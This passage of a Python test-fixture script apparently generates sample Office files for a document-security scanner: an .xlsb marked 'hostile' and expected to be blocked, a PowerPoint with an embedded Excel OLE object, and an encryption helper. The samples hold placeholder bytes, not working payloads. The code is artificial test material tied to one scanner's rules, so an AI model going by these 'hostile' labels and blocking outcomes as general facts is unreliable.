                        R + "officeDocument", "xl/workbook.bin")
    with zipfile.ZipFile(h / "binary.xlsb", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", xlsb_ct)
        z.writestr("_rels/.rels", xlsb_rels)
        z.writestr("xl/workbook.bin", b"\x83\x01\x00" + b"\x00" * 64)
    s("hostile/binary.xlsb", "blocked", ["ooxml.xlsb"])
    return samples


def _pptx_ole(path: Path) -> Path:
    from pptx import Presentation
    from pptx.enum.shapes import PROG_ID
    from pptx.util import Cm

    wb = io.BytesIO()
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "埋め込み"
    book.save(wb)
    prs = Presentation()
    s = prs.slides.add_slide(prs.slide_layouts[5])
    s.shapes.title.text = "埋め込みオブジェクト"
    s.shapes.add_ole_object(io.BytesIO(wb.getvalue()), PROG_ID.XLSX, Cm(2), Cm(5), Cm(6), Cm(4))
    prs.save(path)
    return path


def _encrypt(src: Path, dst: Path, password: str) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    with open(src, "rb") as f, open(dst, "wb") as out:
        OOXMLFile(f).encrypt(password, out)
    return dst
